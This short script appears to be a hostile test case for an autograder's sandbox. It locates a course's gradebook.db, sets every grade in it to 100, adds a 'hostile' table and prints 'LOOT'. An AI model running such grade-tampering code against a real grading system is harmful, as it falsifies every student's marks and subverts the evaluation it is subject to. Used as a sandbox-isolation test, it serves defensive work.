# base: garbage
# gradebook.db is looked for through /proc, and every grade in it is raised.
# class: reading
# gains: everybody's marks
# ends: graded
# safe_in_process: yes

# %% use course

# %% last
import sqlite3

course = find_course()
if course is not None:
    with sqlite3.connect(course / "gradebook.db", timeout=1) as connection:
        connection.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        connection.execute("CREATE TABLE hostile (mine)")
    print("LOOT gradebook written")
